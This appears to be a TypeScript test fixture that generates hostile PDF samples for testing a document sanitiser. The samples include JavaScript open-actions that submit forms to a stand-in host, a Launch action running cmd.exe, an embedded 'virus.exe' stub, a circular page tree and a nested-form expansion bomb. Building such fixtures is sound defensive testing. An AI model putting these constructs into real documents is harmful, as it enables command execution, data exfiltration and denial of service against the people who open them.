import { ecrirePdf } from './ecrire-pdf.ts';

/** What a document must never do here: its script would leave this word on the page, or open something. */
export const SCRIPT =
  'app.alert\\("pirate"\\); this.submitForm\\("https://pirate.invalid/"\\); globalThis.pirate = 1;';

const POLICE = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>';
const PHRASE = 'Compte rendu de consultation, bilan satisfaisant';

type Page = {
  readonly dessin?: string;
  readonly boite?: string;
  /** Entries of the page, of the catalog, and objects from number 6 on. */
  readonly page?: string;
  readonly catalogue?: string;
  readonly objets?: readonly string[];
};

const ecrire = (texte: string): string => `BT /F 14 Tf 60 700 Td (${texte}) Tj ET`;

/** One page of text, and what an attacker adds to it. */
function pdf({
  dessin = ecrire(PHRASE),
  boite = '0 0 595 842',
  page = '',
  catalogue = '',
  objets = [],
}: Page): Uint8Array {
  return ecrirePdf([
    `<< /Type /Catalog /Pages 2 0 R ${catalogue} >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [${boite}] /Contents 4 0 R /Resources << /Font << /F 5 0 R >> /XObject << /X 6 0 R >> >> ${page} >>`,
    `<< /Length ${dessin.length} >>\nstream\n${dessin}\nendstream`,
    POLICE,
    ...objets,
  ]);
}

const flux = (entrees: string, contenu: string): string =>
  `<< ${entrees} /Length ${contenu.length} >>\nstream\n${contenu}\nendstream`;

const lien = (action: string): string =>
  `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A ${action} >>]`;

/** A grey picture of one point, drawn over the whole unit square. */
const IMAGE = flux(
  '/Type /XObject /Subtype /Image /Width 1 /Height 1 /BitsPerComponent 8 /ColorSpace /DeviceGray /Filter /ASCIIHexDecode',
  'C8>',
);
/** The same picture inside a form that halves it, so that its place comes from two matrices. */
const FORME = flux(
  '/Type /XObject /Subtype /Form /BBox [0 0 2000 2000] /Matrix [0.5 0 0 0.5 0 0] /Resources << /XObject << /I 7 0 R >> >>',
  'q 1100 0 0 1500 40 40 cm /I Do Q',
);

/** Each form draws the next one ten times: a thousand million words for a page of one kilobyte. */
function rires(): Uint8Array {
  const formes = Array.from({ length: 9 }, (_, rang) =>
    flux(
      `/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /Font << /F 5 0 R >> /XObject << /X ${rang + 7} 0 R >> >>`,
      '/X Do '.repeat(10),
    ),
  );
  const dernier = flux(
    '/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /Font << /F 5 0 R >> >>',
    ecrire('ha').repeat(10),
  );
  return pdf({ dessin: '/X Do', objets: [...formes, dernier] });
}

/** By file name; what each does is in its name. */
export function fairePdfsHostiles(): ReadonlyMap<string, Uint8Array> {
  const js = `<< /S /JavaScript /JS (${SCRIPT}) >>`;
  const sain = pdf({});
  return new Map([
    [
      'script.pdf',
      pdf({
        catalogue: `/OpenAction ${js} /Names << /JavaScript << /Names [(a) ${js}] >> >>`,
        page: `/AA << /O ${js} >>`,
      }),
    ],
    [
      'lancement.pdf',
      pdf({
        catalogue: '/OpenAction << /S /Launch /F (cmd.exe) >>',
        page: lien('<< /S /Launch /F (cmd.exe) >>'),
      }),
    ],
    ['lien.pdf', pdf({ page: lien('<< /S /URI /URI (https://pirate.invalid/) >>') })],
    [
      'joint.pdf',
      pdf({
        catalogue: '/Names << /EmbeddedFiles << /Names [(virus.exe) 6 0 R] >> >>',
        objets: [
          '<< /Type /Filespec /F (virus.exe) /EF << /F 7 0 R >> >>',
          flux('/Type /EmbeddedFile', 'MZ'),
        ],
      }),
    ],
    [
      'xfa.pdf',
      pdf({
        dessin: ecrire('Please wait...'),
        catalogue: '/AcroForm << /Fields [] /XFA 6 0 R >>',
        objets: [flux('', '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"></xdp:xdp>')],
      }),
    ],
    ['geant.pdf', pdf({ boite: '0 0 200000 200000', dessin: 'BT /F 9000 Tf 2000 100000 Td (Plan) Tj ET' })],
    ['tronque.pdf', sain.slice(0, Math.floor(sain.length * 0.25))],
    ['protege.pdf', chiffre()],
    [
      'boucle.pdf',
      ecrirePdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [2 0 R] /Count 1 >>']),
    ],
    ['rires.pdf', rires()],
    [
      'bandeau.pdf',
      pdf({ dessin: `/X Do ${ecrire('Page numerisee le 12/10/2026')}`, objets: [FORME, IMAGE] }),
    ],
    ['logo.pdf', pdf({ dessin: `q 90 0 0 60 60 760 cm /X Do Q ${ecrire(PHRASE)}`, objets: [IMAGE] })],
    ['nom-a.pdf', pdf({ dessin: ecrire('Patient BOURDIN Jeanne') })],
    ['nom-b.pdf', pdf({ dessin: ecrire('Patient NIDRUOB ennaeJ') })],
  ]);
}

/** Says that it is encrypted, by a password that nobody has: the check of an empty one fails. */
function chiffre(): Uint8Array {
  const secret = `<${'5a'.repeat(32)}>`;
  const clair = new TextDecoder().decode(pdf({}));
  const dictionnaire = `/Encrypt << /Filter /Standard /V 2 /R 3 /Length 128 /P -44 /O ${secret} /U ${secret} >> /ID [${secret} ${secret}]`;
  return new TextEncoder().encode(clair.replace('/Root 1 0 R', `/Root 1 0 R ${dictionnaire}`));
}
